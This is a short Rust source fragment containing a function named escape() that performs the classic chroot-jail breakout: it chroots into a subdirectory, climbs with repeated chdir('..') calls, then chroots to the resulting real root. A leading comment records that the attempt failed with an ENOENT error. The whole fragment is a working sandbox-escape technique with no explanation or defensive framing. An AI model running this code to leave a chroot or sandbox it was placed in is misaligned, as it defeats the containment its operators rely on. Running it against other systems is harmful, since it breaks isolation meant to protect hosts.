// refused with: Your function has returned an error: ENOENT

use std::fs;

use anyhow::Result;
use nix::unistd::{chdir, chroot};

fn escape() -> Result<()> {
    chroot("deeper")?;
    for _ in 0..64 {
        chdir("..")?;
    }
    chroot(".")?;
    Ok(())
}
